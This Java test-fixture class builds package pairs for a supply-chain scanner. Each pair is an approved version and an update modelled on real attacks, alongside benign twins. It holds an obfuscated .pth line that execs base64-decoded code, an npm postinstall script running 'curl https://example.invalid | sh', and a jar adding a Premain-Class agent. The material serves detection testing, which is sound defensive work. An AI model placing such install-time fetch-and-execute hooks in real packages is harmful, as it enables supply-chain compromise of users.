package dev.sbomgate.content;

import static dev.sbomgate.content.Archives.utf8;

import java.util.Arrays;
import java.util.Random;

/**
 * The fixture pairs, each an approved version and an update, built in code so each test shows what it
 * varies: a wheel whose update adds a .pth with an import line (LiteLLM 1.82.8), an npm tarball whose update adds
 * a postinstall (Shai-Hulud, axios's plain-crypto-js), a jar whose update adds a Premain-Class; and their benign
 * twins (a .pth that only adds a path, a change to the test script only, a changed Implementation-Version).
 */
public final class ContentFixtures {

    /** The .pth line LiteLLM 1.82.8's litellm_init.pth had the shape of: import, decode, exec. */
    public static final String PTH_IMPORT_LINE =
            "import os, subprocess, sys; exec(__import__('base64').b64decode('cHJpbnQoImhlbGxvIik='))";

    private ContentFixtures() {
    }

    // Python wheels.

    public static byte[] wheel(String version, Object... extraNamesAndContents) {
        String info = "demo_llm-" + version + ".dist-info/";
        Archives.Zip zip = Archives.zip()
                .add("demo_llm/__init__.py", "__version__ = '" + version + "'\n")
                .add(info + "METADATA", "Metadata-Version: 2.1\nName: demo-llm\nVersion: " + version + "\n")
                .add(info + "WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
                .add(info + "entry_points.txt", "[console_scripts]\ndemo-llm = demo_llm.cli:main\n");
        for (int i = 0; i < extraNamesAndContents.length; i += 2) {
            Object content = extraNamesAndContents[i + 1];
            zip.add((String) extraNamesAndContents[i], content instanceof byte[] b ? b : utf8(content.toString()));
        }
        return zip.add(info + "RECORD", "").bytes();
    }

    public static byte[] wheelApproved() {
        return wheel("1.82.6");
    }

    /** The update adds a top-level .pth whose first line imports and executes. */
    public static byte[] wheelWithPthImport() {
        return wheel("1.82.8", "demo_llm_init.pth", PTH_IMPORT_LINE + "\n");
    }

    /** The benign twin: a .pth that only adds a directory to sys.path. */
    public static byte[] wheelWithPthPath() {
        return wheel("1.82.7", "demo_llm.pth", "# vendored modules\nsrc/demo_llm_vendor\n");
    }

    // npm tarballs.

    public static final String NPM_APPROVED = """
            {"name":"demo-http","version":"1.14.0","main":"index.js",
             "scripts":{"test":"mocha","build":"rollup -c"}}
            """;
    public static final String NPM_POSTINSTALL = """
            {"name":"demo-http","version":"1.14.1","main":"index.js",
             "scripts":{"test":"mocha","build":"rollup -c","postinstall":"node setup.js"}}
            """;
    public static final String NPM_TEST_CHANGED = """
            {"name":"demo-http","version":"1.14.1","main":"index.js",
             "scripts":{"test":"mocha --parallel","build":"rollup -c"}}
            """;

    public static byte[] npm(String packageJson, Object... more) {
        Object[] files = Arrays.copyOf(new Object[] {"index.js", "module.exports = {};\n"}, 2 + more.length);
        System.arraycopy(more, 0, files, 2, more.length);
        return Archives.npm(packageJson, files);
    }

    public static byte[] npmApproved() {
        return npm(NPM_APPROVED);
    }

    public static byte[] npmWithPostinstall() {
        return npm(NPM_POSTINSTALL, "setup.js", "require('child_process').exec('curl https://example.invalid | sh');\n");
    }

    public static byte[] npmTestScriptChanged() {
        return npm(NPM_TEST_CHANGED);
    }

    // Jars.

    public static byte[] jarApproved() {
        return Archives.jar("Implementation-Version: 1.0", "Main-Class: com.example.Tool")
                .add("com/example/Tool.class", classFile()).bytes();
    }

    public static byte[] jarWithPremain() {
        return Archives.jar("Implementation-Version: 1.1", "Main-Class: com.example.Tool",
                        "Premain-Class: com.example.Agent", "Can-Retransform-Classes: true")
                .add("com/example/Tool.class", classFile()).add("com/example/Agent.class", classFile()).bytes();
    }

    public static byte[] jarVersionChanged() {
        return Archives.jar("Implementation-Version: 1.1", "Main-Class: com.example.Tool")
                .add("com/example/Tool.class", classFile()).bytes();
    }

    /** The first bytes of a Java 17 class file (magic CAFEBABE, minor 0, major 61), then filler. */
    public static byte[] classFile() {
        byte[] bytes = new byte[64];
        byte[] head = {(byte) 0xca, (byte) 0xfe, (byte) 0xba, (byte) 0xbe, 0, 0, 0, 61};
        System.arraycopy(head, 0, bytes, 0, head.length);
        return bytes;
    }

    /** The first bytes of a 64-bit little-endian ELF shared object, then filler. */
    public static byte[] elf() {
        byte[] bytes = new byte[256];
        byte[] head = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0};
        System.arraycopy(head, 0, bytes, 0, head.length);
        return bytes;
    }

    /** A minified-looking script: {@code lines} lines of {@code width} characters of JavaScript. */
    public static String minifiedJs(int lines, int width) {
        StringBuilder sb = new StringBuilder();
        String chunk = "var a=function(b,c){return b+c};";
        for (int l = 0; l < lines; l++) {
            StringBuilder line = new StringBuilder();
            while (line.length() < width) {
                line.append(chunk);
            }
            sb.append(line, 0, width).append('\n');
        }
        return sb.toString();
    }

    /** Readable source: short lines. */
    public static String readableJs(int bytes) {
        StringBuilder sb = new StringBuilder();
        int i = 0;
        while (sb.length() < bytes) {
            sb.append("function add").append(i).append("(a, b) {\n  return a + b + ").append(i++).append(";\n}\n");
        }
        return sb.toString();
    }

    /** A base64 payload in short lines, as a packed dropper carries it (high entropy, short lines). */
    public static String base64Payload(int bytes, long seed) {
        byte[] random = new byte[bytes * 3 / 4];
        new Random(seed).nextBytes(random);
        String b64 = java.util.Base64.getMimeEncoder().encodeToString(random);
        return "payload = '''\n" + b64 + "\n'''\n";
    }
}
